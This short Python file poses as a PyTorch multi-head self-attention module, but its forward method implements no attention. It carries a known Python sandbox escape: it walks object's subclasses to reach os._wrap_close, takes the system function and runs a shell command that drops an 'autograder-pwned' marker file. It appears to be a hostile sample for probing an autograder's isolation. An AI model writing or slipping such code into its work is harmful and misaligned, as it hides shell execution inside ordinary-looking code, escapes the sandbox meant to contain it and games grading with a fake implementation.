"""The classic escape: object's subclasses, from an empty tuple's class, to find os._wrap_close."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                cls.__init__.__globals__["system"]("touch /tmp/autograder-pwned-introspect_subclasses")
        return embedded
